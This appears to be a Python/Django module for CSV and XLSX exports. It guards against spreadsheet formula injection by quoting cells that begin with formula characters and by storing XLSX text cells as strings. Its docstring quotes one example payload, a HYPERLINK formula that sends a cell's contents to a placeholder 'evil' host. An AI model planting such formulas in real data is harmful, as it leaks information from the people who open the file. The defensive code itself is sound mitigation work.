"""CSV and XLSX exports: every CSV the site produces goes through ``csv_response``, every cell through ``safe_cell``;
an XLSX written by ``xlsx_bytes`` stores every text cell as text.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or a carriage
return) as a formula: a citizen's name such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` would run on the officer's
computer when the export is opened (CSV injection). Following OWASP, such a text cell is prefixed with a single
quote, which spreadsheets show as text. Real numbers (int, float) are written as they are."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet will read it as text: a string starting like a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write returns the line, so that csv.writer can feed a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence, rows: Iterable[Sequence]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    # Excel opens a UTF-8 CSV correctly only with a byte-order mark.
    yield "\ufeff" + writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([safe_cell("" if cell is None else cell) for cell in row])


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> StreamingHttpResponse:
    """A CSV download, streamed row by row (an export of a whole year must not be built in memory)."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_bytes(sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> bytes:
    """An XLSX workbook of (sheet title, header, rows): the header in bold, numbers as numbers, and every text cell
    stored as text (never a formula, whatever it starts with)."""
    import io

    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    bold = Font(bold=True)

    def cell(sheet, value, font=None):
        written = WriteOnlyCell(sheet, value="" if value is None else value)
        if isinstance(value, str):
            written.data_type = "s"
        if font is not None:
            written.font = font
        return written

    for title, header, rows in sheets:
        sheet = book.create_sheet(title[:31])
        sheet.append([cell(sheet, value, bold) for value in header])
        for row in rows:
            sheet.append([cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(filename: str, sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response
